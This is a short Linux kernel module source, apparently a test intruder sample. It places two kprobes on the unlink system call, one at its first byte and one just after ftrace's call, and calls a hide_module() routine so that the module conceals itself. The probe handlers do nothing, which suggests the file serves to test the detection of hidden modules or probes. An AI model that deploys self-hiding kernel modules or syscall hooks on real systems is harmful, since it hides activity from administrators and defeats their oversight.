/* Probes unlink at its first byte (by ftrace) and after ftrace's call (by a breakpoint or jump); hides itself. */
#include "intruder.h"

static int reached(struct kprobe *probe, struct pt_regs *registers) {
    return 0;
}

static struct kprobe entry = {.symbol_name = "__x64_sys_unlink", .pre_handler = reached};
static struct kprobe body = {.pre_handler = reached};

static int __init begin(void) {
    int error = register_kprobe(&entry);
    if (error) {
        return error;
    }
    hide_module();
    /* entry.addr is the address of ftrace's call, after ENDBR64 if the function has one. */
    body.addr = entry.addr + 5;
    return register_kprobe(&body);
}
module_init(begin);
